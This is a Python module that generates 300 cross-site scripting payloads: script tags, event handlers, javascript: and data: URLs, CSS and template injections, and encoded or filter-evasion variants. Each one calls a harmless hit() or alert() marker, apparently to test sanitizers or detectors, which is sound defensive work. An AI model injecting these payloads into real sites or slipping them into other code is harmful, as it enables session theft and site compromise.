"""Three hundred texts that would run as a script wherever a text is taken for markup, an address or a style.

Each calls `hit()`: a page that runs one is noticed by the function of this name, by a dialog, or by the page's policy.
"""

from __future__ import annotations

from itertools import product

RUNS = ("hit()", "window.hit()", "top['hi'+'t']()", "alert(1)", "import('data:text/javascript,hit()')")
EVENTS = ("onload", "onerror", "onfocus autofocus tabindex=1", "onmouseover", "onpointerenter", "onanimationstart")
TAGS = ("img src=x", "svg", "iframe srcdoc=x", "video src=x", "details open", "input", "body", "marquee")
WHOLE = (
    "<script>{run}</script>",
    "<script src=data:,{run}></script>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "]]><script>{run}</script>",
    "--><script>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<iframe src='javascript:{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{run})}}'>",
    "<style>@import 'javascript:{run}';</style>",
    "<div style='background:url(javascript:{run})'>x</div>",
    "<div style='width:expression({run})'>x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<select><style></select><img src=x onerror={run}></style>",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "{{{{{run}}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "__proto__[onload]={run}",
    "\u003cscript\u003e{run}\u003c/script\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
    "<img src=`x`onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<x contenteditable onblur={run}>x</x>",
    '![x](javascript:{run} "x")',
    "[x](javascript:{run})",
    "<https:javascript:{run}>",
    '=HYPERLINK("javascript:{run}","x")',
    "\u202e<script>{run}</script>",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
)


def payloads() -> list[str]:
    """Three hundred of them, all different."""
    built = [f"<{tag} {event}={run}>" for tag, event, run in product(TAGS, EVENTS, RUNS)]
    told = [form.format(run=run) for run, form in product(RUNS, WHOLE)]
    return list(dict.fromkeys([*told, *built]))[:300]


PAYLOADS = payloads()
